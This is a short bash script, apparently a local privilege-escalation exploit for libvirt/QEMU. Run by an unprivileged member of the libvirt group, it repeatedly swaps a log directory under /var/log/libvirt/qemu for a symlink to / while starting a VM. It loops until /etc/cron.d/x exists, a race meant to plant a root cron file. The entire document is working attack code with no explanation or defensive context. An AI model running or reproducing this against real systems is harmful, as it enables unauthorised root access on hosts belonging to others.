#!/bin/bash
# As a member of the group libvirt, without root. Ends when the file exists.
base=/var/log/libvirt/qemu
while [ ! -e /etc/cron.d/x ]; do
    mkdir -p "$base/a" && virsh -q create race.xml &
    mv -T "$base/a" "$base/b" && ln -sfn / "$base/a"
    wait; virsh -q destroy race; rm -rf "$base/a" "$base/b"
done
